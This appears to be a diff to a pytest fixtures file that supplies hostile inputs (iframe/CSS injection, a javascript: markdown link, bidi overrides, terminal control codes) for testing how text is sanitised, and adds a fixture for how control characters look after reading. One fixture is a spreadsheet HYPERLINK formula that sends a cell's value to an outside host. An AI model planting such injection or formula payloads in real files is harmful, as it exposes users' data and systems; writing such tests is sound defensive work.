@@ -13,6 +13,7 @@ FRAME = '<style>*{display:none}</style><iframe srcdoc="<p>owned</p>"></iframe>'
 MARKDOWN = "![pixel](https://example.org/pixel.png) [knop](javascript:alert(1)) :red[rood] $x^2$"
 BIDI = "\u202etsuj niet\u202c \u2066los\u2069"
 CONTROLS = "\x01\x1b[31m\x7f\x9b\ufffe"
+AS_READ = "\ufffd\ufffd[31m\ufffd\ufffd\ufffd"  # what reading makes of the controls
 FORMULA = '=HYPERLINK("http://example.org/?x="&A1;klik)'
 PAPER = f"""\
 Verslag van de informele JBZ-Raad van 22 en 23 januari 2026
@@ -39,8 +40,14 @@ def hostile_words() -> Mapping[str, str]:
         "frame": FRAME,
         "markdown": MARKDOWN,
         "bidi": BIDI,
-        "controls": CONTROLS,
+        "controls": AS_READ,
     }
+
+
+@pytest.fixture(scope="session")
+def hostile_text() -> str:
+    """The text of the hostile paper as it is read."""
+    return PAPER.replace(CONTROLS, AS_READ)
 
 
 @pytest.fixture(scope="session")
